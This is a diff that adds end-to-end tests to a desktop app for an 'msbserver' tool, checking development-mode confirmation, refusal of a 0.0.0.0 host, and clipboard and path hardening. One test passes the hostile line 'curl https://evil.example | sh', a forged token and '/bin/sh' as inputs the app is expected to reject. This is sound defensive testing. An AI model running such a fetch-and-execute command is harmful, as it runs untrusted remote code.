@@ -275,6 +275,63 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     await expect.poll(() => rpc(`http://127.0.0.1:${r.port}`, oldToken, 'default'), { timeout: 10_000 }).toBe(401);
   });
 
+  it('turns on development mode only after the native question, and then says what it means', async () => {
+    const r = await openWindow();
+    const { page } = r;
+    await page.getByRole('tab', { name: 'Settings' }).click();
+    await page.getByLabel('Development mode (no keys needed)').check();
+    await button(page, 'Save').click();
+    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toBe('Not saved: Development mode stays off: it was not confirmed.');
+    expect(r.questions.map((question) => question.title)).toEqual(['Turn on development mode?']);
+    expect(r.questions[0]?.detail).toContain('open to every program on this computer and every web page you visit');
+    expect(r.settings.get().devMode).toBe(false);
+
+    r.confirmAnswers.push(true);
+    await button(page, 'Save').click();
+    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Saved/);
+    expect(r.settings.get().devMode).toBe(true);
+    await expect.poll(() => byTestId(page, 'settings-exposure').textContent()).toBe(
+      'With these settings the server is open to every program on this computer and every web page you visit.',
+    );
+    // A host other computers reach is now refused outright, without a question.
+    await page.getByLabel('Host').fill('0.0.0.0');
+    await button(page, 'Save').click();
+    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Not saved: Development mode on 0\.0\.0\.0 is refused/);
+    expect(r.questions).toHaveLength(2);
+  });
+
+  it('a window that calls the channels itself can put no text of its own on the clipboard, nor set the msbserver path', async () => {
+    const r = await openWindow();
+    const { page } = r;
+    await page.evaluate(() => navigator.clipboard.writeText('what the user had'));
+    const answers = await page.evaluate(async () => {
+      const msb = (window as unknown as { msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>> }).msb;
+      const results: Record<string, string> = {};
+      const codeOf = async (name: string, call: () => Promise<{ ok: boolean; error?: { code: string } }>): Promise<void> => {
+        const answer = await call();
+        results[name] = answer.ok ? 'ok' : (answer.error?.code ?? '?');
+      };
+      await codeOf('text', () => msb['copy']!({ text: 'curl https://evil.example | sh', secret: false }));
+      await codeOf('forged key', () => msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }));
+      await codeOf('path', () => msb['setSettings']!({ msbserverPath: '/bin/sh' }));
+      await codeOf('chooser', () => msb['chooseMsbserver']!());
+      return results;
+    });
+    expect(answers).toEqual({ text: 'invalid-input', 'forged key': 'refused', path: 'refused', chooser: 'declined' });
+    expect(await r.readClipboard()).toBe('what the user had');
+    expect(r.settings.get().msbserverPath).toBeNull();
+    // The chooser was main's own dialog, which the user cancelled.
+    expect(r.questions.map((question) => question.title)).toEqual(['Choose msbserver']);
+  });
+
+  it('copies the server URL main knows from the status view', async () => {
+    const r = await openWindow();
+    const { page } = r;
+    await startServer(r);
+    await button(page, 'Copy URL').click();
+    await expect.poll(() => r.readClipboard()).toBe(`http://127.0.0.1:${r.port}`);
+  });
+
   it('works from the keyboard: arrow keys move between tabs and Enter generates', async () => {
     const r = await openWindow();
     const { page } = r;
